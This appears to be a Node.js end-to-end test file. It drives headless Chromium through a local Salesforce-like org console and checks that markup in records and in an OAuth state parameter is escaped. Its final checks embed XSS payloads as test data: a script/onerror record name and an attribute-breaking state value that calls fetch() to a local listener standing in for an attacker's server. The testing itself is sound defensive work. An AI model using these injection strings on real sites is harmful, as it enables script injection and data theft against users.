'use strict';
// LocalOrg's console in a real browser: headless Chromium logs in at the login page, finds an
// Account by search, edits it, creates a Contact under it, runs a SOQL query, and shows a record
// named with markup as text. With SCREENSHOTS=folder it saves the home, list and record pages.
// Run: FORCEKIT=<forcekit> CHROMIUM=<chromium-headless-shell> node --experimental-websocket --test

const { test, after } = require('node:test');
const assert = require('node:assert/strict');
const path = require('node:path');
const { startLocalOrg } = require('../hybrid-js/localorg.js');
const { openChromium } = require('../browser-support/chromium.js');

const forcekit = process.env.FORCEKIT || 'forcekit';
const cleanups = [];
after(async () => { for (const cleanup of cleanups.reverse()) await cleanup(); });

/** Waits until the page at a path matching `pattern` has loaded (half a minute at most). */
async function loaded(session, pattern) {
  for (let waited = 0; waited < 150; waited++) {
    const state = await session.evaluate('[location.pathname + location.search, document.readyState]');
    if (state && pattern.test(state[0]) && state[1] === 'complete') return state[0];
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  throw new Error(`no page matching ${pattern} loaded; at ${await session.evaluate('location.href')}`);
}

/** Runs `action` in the page (a click, a submit) and waits for the next page to load. */
async function navigate(session, action, pattern) {
  await session.evaluate('window.__leaving = true');
  await session.evaluate(action);
  for (let waited = 0; waited < 150 && (await session.evaluate('window.__leaving')) === true; waited++) {
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  return loaded(session, pattern);
}

const text = (session, selector) => session.evaluate(`document.querySelector(${JSON.stringify(selector)})?.textContent ?? null`);
const shot = async (session, name) => {
  if (process.env.SCREENSHOTS) await session.screenshot(path.join(process.env.SCREENSHOTS, `console-${name}.png`));
};

test("a person's tour of the console: log in, search, edit, a related Contact, SOQL, and markup shown as text", async () => {
  const localOrg = await startLocalOrg(forcekit);
  cleanups.push(() => localOrg.stop());
  const { instanceUrl, username, password } = localOrg.org;
  const display = JSON.parse((await localOrg.forcekit('org', 'display', '--json')).stdout);
  const api = async (method, apiPath, body) => {
    const reply = await fetch(`${instanceUrl}/services/data/v66.0/${apiPath}`, {
      method, headers: { Authorization: `Bearer ${display.accessToken}`, 'Content-Type': 'application/json' },
      body: body && JSON.stringify(body),
    });
    return reply.status === 204 ? null : reply.json();
  };

  const session = await openChromium(instanceUrl + '/', cleanups, { width: 1280, height: 900 });
  await session.send('Page.enable');

  // Log in at the login page, which the instance URL leads to.
  await loaded(session, /^\/login\?startURL=/);
  await navigate(session, `document.getElementById('username').value = ${JSON.stringify(username)};
    document.getElementById('password').value = ${JSON.stringify(password)};
    document.querySelector('main form').submit()`, /^\/lightning\/page\/home$/);
  assert.match(await text(session, 'main'), new RegExp(`${instanceUrl.replace(/[.:/]/g, '\\$&')}/services/data/v66\\.0`));
  await shot(session, 'home');

  // Find an Account by search and open it.
  await navigate(session, `location.href = '/lightning/o/Account/list'`, /^\/lightning\/o\/Account\/list$/);
  await navigate(session, `document.querySelector('input[name=q]').value = 'Umbrella'; document.querySelector('form.search').submit()`,
    /^\/lightning\/o\/Account\/list\?q=Umbrella$/);
  const names = await session.evaluate("Array.from(document.querySelectorAll('tbody tr td:first-child')).map(td => td.textContent)");
  assert.ok(names.length > 0 && names.every((name) => name.includes('Umbrella')), names.join(', '));
  await shot(session, 'list');
  const recordPath = await navigate(session, `document.querySelector('tbody tr td:first-child a').click()`, /^\/lightning\/r\/Account\/\w{18}\/view$/);
  const accountId = recordPath.split('/')[4];

  // Edit a field; the REST API then returns the change.
  await navigate(session, `document.querySelector('a[href$="/edit"]').click()`, /\/edit$/);
  await navigate(session, `document.getElementById('field-Phone').value = '(555) 010-4242'; document.querySelector('form.record').submit()`,
    /^\/lightning\/r\/Account\/\w{18}\/view$/);
  assert.equal((await api('GET', `sobjects/Account/${accountId}`)).Phone, '(555) 010-4242');

  // A Contact created from the Account's page shows in its related list.
  await navigate(session, `document.querySelector('a[href^="/lightning/o/Contact/new"]').click()`, /^\/lightning\/o\/Contact\/new\?/);
  assert.equal(await session.evaluate("document.getElementById('field-AccountId').value"), accountId);
  await navigate(session, `document.getElementById('field-LastName').value = 'Browserton'; document.querySelector('form.record').submit()`,
    /^\/lightning\/r\/Contact\/\w{18}\/view$/);
  await navigate(session, `location.href = '/lightning/r/Account/${accountId}/view'`, /^\/lightning\/r\/Account\/\w{18}\/view$/);
  assert.match(await text(session, 'section[aria-label="Contacts"]'), /Browserton/);
  await shot(session, 'record');

  // A SOQL query's rows as a table.
  await navigate(session, `location.href = '/lightning/query'`, /^\/lightning\/query$/);
  await navigate(session, `document.getElementById('q').value = "SELECT Name, Phone FROM Account WHERE Id = '${accountId}'"; document.querySelector('main form').submit()`,
    /^\/lightning\/query\?q=/);
  assert.deepEqual(await session.evaluate("Array.from(document.querySelectorAll('tbody td')).map(td => td.textContent)").then((cells) => cells.slice(1)), ['(555) 010-4242']);

  // A name that is markup shows as text: no element is made of it and no script of it runs.
  const hostile = '<script>alert(1)</script><img src=x onerror="window.__pwned = true">';
  const { id: hostileId } = await api('POST', 'sobjects/Account', { Name: hostile });
  await navigate(session, `location.href = '/lightning/r/Account/${hostileId}/view'`, /^\/lightning\/r\/Account\/\w{18}\/view$/);
  assert.equal(await text(session, 'h1'), `Account ${hostile}`);
  assert.equal(await session.evaluate("document.querySelectorAll('main script, main img').length"), 0);
  assert.equal(await session.evaluate('window.__pwned === true'), false);
  assert.ok(!session.events.some((event) => event.method === 'Page.javascriptDialogOpening'), 'a dialog opened');
});

test("the login page with a state whose quote a combining mark follows: the value stays one attribute, and no script runs", async () => {
  const localOrg = await startLocalOrg(forcekit);
  cleanups.push(() => localOrg.stop());
  const { instanceUrl, clientId, redirectUri } = localOrg.org;
  // A listener on another port stands for the attacker's server: the page must never reach it.
  const http = require('node:http');
  let stolen = 0;
  const thief = http.createServer((request, response) => { stolen += 1; response.end(); });
  await new Promise((resolve) => thief.listen(0, '127.0.0.1', resolve));
  cleanups.push(() => new Promise((resolve) => thief.close(resolve)));
  const thiefUrl = `http://127.0.0.1:${thief.address().port}/`;

  const session = await openChromium('about:blank', cleanups);
  await session.send('Page.enable');
  for (const mark of ['\u0338', '\u200d', '\ufe0f', '\u0308', '\u0903', '\u{1f3fb}']) {
    const state = `s"${mark} oncontentvisibilityautostatechange="window.__pwned=true;fetch('${thiefUrl}')" style="display:block" x="`;
    const query = new URLSearchParams({ response_type: 'code', client_id: clientId, redirect_uri: redirectUri, state });
    await navigate(session, `location.href = ${JSON.stringify(`${instanceUrl}/services/oauth2/authorize?${query}`)}`, /^\/services\/oauth2\/authorize\?/);
    assert.equal(await session.evaluate("document.querySelector('input[name=state]').value"), state);
    assert.equal(await session.evaluate("document.querySelector('input[name=state]').getAttributeNames().join(' ')"), 'type name value');
    await new Promise((resolve) => setTimeout(resolve, 300));
    assert.equal(await session.evaluate('window.__pwned === true'), false);
  }
  assert.equal(stolen, 0, 'the page sent a request to another port');
});
